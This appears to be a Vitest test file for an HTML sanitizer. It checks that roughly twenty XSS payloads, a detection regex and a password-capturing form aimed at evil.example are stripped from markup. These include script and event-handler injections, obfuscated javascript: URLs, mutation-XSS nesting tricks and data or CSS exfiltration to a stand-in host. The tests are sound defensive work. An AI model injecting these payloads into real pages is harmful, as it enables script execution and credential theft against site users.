import { expect, it } from 'vitest';
import { cleanMarkup } from './cleanMarkup.ts';

it('PU-2 honest markup stays as it was written', () => {
  const markup =
    '<h2>Welcome</h2><p>Read <a href="/platform/BTCUSD">the platform</a> <strong>first</strong>.</p><ul><li>One</li></ul>';
  expect(cleanMarkup(markup)).toBe(markup);
});

/** Patterns of what must be removed, in lower case and without spaces. */
const HARM =
  /<script|<iframe|<svg|<math|<form|<input|<button|<img|<object|<embed|<base|<meta|<link|<style|on\w+=|javascript:|data:|style=|id=|class=|srcdoc|\/\\|href="\/\//;

it.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<p style="position:fixed;top:0;background:url(https://evil.example)">x</p>',
  '<p id="root" class="dialog" onclick="alert(1)">x</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example";</style>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
])('T17 PU-2 nothing of %s comes through', (markup) => {
  const clean = cleanMarkup(`<p>before</p>${markup}<p>after</p>`);
  expect(clean.toLowerCase()).not.toMatch(HARM);
  expect(clean).toContain('before');
});

it('PU-2 cleaning what is clean changes nothing', () => {
  const once = cleanMarkup(
    '<p>a <b>b</b> &lt;script&gt; <a href="https://example.com/?a=1&amp;b=2">c</a></p><script>x</script>',
  );
  expect(cleanMarkup(once)).toBe(once);
});
